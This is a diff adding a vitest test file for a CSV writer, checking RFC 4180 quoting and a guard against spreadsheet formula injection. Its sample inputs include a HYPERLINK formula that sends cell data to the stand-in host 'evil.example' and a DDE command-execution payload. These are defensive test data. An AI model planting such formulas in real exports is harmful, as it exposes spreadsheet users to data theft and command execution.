@@ -1,0 +1,124 @@
+/** What a spreadsheet, and any other reader of RFC 4180, makes of our CSV. */
+import { describe, expect, test } from 'vitest';
+import { readCsv } from '../../tests/support/csv.ts';
+import { type Cell, csvRow, needsGuard, rupees } from './csv.ts';
+
+const line = (...cells: Cell[]) => csvRow(cells).slice(0, -2);
+
+describe('a text', () => {
+  test.each([
+    ['Asha Rao', 'Asha Rao'],
+    ['', ''],
+    ['Rao, Asha', '"Rao, Asha"'],
+    ['Asha "Ashi" Rao', '"Asha ""Ashi"" Rao"'],
+    ['"', '""""'],
+    ['Flat 12\nMG Road', '"Flat 12\nMG Road"'],
+    ['Flat 12\r\nMG Road', '"Flat 12\r\nMG Road"'],
+    ['a;=1+1', '"a;=1+1"'],
+    ['a\tb', '"a\tb"'],
+    [' Asha ', '" Asha "'],
+    ['आशा राव', 'आशा राव'],
+    ['₹599 क्ष 👩‍🔬', '₹599 क्ष 👩‍🔬'],
+    // Nothing that begins a formula stands at its beginning.
+    ['C-12, A=B', '"C-12, A=B"'],
+    ['asha@example.in', 'asha@example.in'],
+    ["O'Brien", "O'Brien"],
+    ["'tis", "'tis"],
+    ['9876543210', '9876543210'],
+    ['560001', '560001'],
+    ['0', '0'],
+    ['123456789012345', '123456789012345'],
+  ])('%j is written %j', (text, written) => expect(line(text)).toBe(written));
+});
+
+describe('what a spreadsheet would take for a formula is one no more', () => {
+  test.each([
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    '+1+1',
+    '+919876543210',
+    '-2+3',
+    '-120',
+    '@SUM(A1:A9)',
+    '\t=1+1',
+    '\tAsha',
+    '\rAsha',
+    '\nAsha',
+    '\0=1',
+    '  =1+1',
+    '\u00a0=1+1',
+    '"=1+1',
+    "'=1+1",
+    ' "\'+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '=',
+  ])('%j', (text) => {
+    expect(needsGuard(text)).toBe(true);
+    expect(line(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
+  });
+});
+
+test.each(['098765', '00', '1234567890123456', ' 0123 '])('%j keeps its digits: it is no number', (text) =>
+  expect(line(text)).toBe(`"'${text}"`),
+);
+
+describe('what we made is left alone', () => {
+  test.each<[Cell, string]>([
+    [-120, '-120'],
+    [0, '0'],
+    [null, ''],
+    [rupees(59_900), '599.00'],
+    [rupees(5), '0.05'],
+    [rupees(-12_050), '-120.50'],
+    [rupees(-5), '-0.05'],
+    [rupees(0), '0.00'],
+    [rupees(123_456_789_01), '123456789.01'],
+    [{ figure: '2026-11-21 14:31:07' }, '2026-11-21 14:31:07'],
+  ])('%j is %s', (cell, written) => expect(line(cell)).toBe(written));
+});
+
+/** The same numbers in every run (mulberry32). */
+function numbers(seed: number) {
+  let state = seed;
+  return (below: number): number => {
+    state = (state + 0x6d2b79f5) | 0;
+    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
+    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
+    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
+  };
+}
+
+test('whatever is written is read back, and no cell of it is a formula', () => {
+  const next = numbers(2026);
+  const parts = [
+    '=',
+    '+',
+    '-',
+    '@',
+    "'",
+    '"',
+    ',',
+    ';',
+    '\r',
+    '\n',
+    '\t',
+    ' ',
+    '0',
+    '7',
+    'a',
+    'आ',
+    '👩‍🔬',
+    '＝',
+    '\0',
+  ];
+  const text = () => Array.from({ length: next(7) }, () => parts[next(parts.length)]).join('');
+  // A row of one empty cell is an empty line, which a reader may take for none.
+  const table = Array.from({ length: 2000 }, () => Array.from({ length: 2 + next(4) }, text));
+  const read = readCsv(table.map(csvRow).join(''));
+  const bare = (cell: string) => (cell.startsWith("'") && needsGuard(cell.slice(1)) ? cell.slice(1) : cell);
+  expect(read.map((row) => row.map(bare))).toEqual(table);
+  expect(read.flat().filter((cell) => /^[\s"\0]*[=+\-@＝＋－＠]|^[\t\r\n\0]/.test(cell))).toEqual([]);
+});
